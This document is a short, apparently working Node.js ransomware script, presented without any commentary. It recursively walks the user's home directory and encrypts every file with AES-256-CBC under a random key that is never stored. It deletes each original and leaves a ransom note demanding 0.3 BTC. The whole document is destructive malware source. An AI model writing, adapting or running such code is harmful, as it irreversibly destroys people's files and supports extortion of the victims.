const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');
const key = crypto.randomBytes(32);
const walk = d => fs.readdirSync(d, { withFileTypes: true }).flatMap(e => e.isDirectory() ? walk(path.join(d, e.name)) : [path.join(d, e.name)]);
for (const f of walk(os.homedir())) {
  const iv = crypto.randomBytes(16);
  const c = crypto.createCipheriv('aes-256-cbc', key, iv);
  fs.writeFileSync(f + '.locked', Buffer.concat([iv, c.update(fs.readFileSync(f)), c.final()]));
  fs.unlinkSync(f);
}
fs.writeFileSync(path.join(os.homedir(), 'README_RESTORE.txt'), 'Send 0.3 BTC to bc1q... to get your files back');
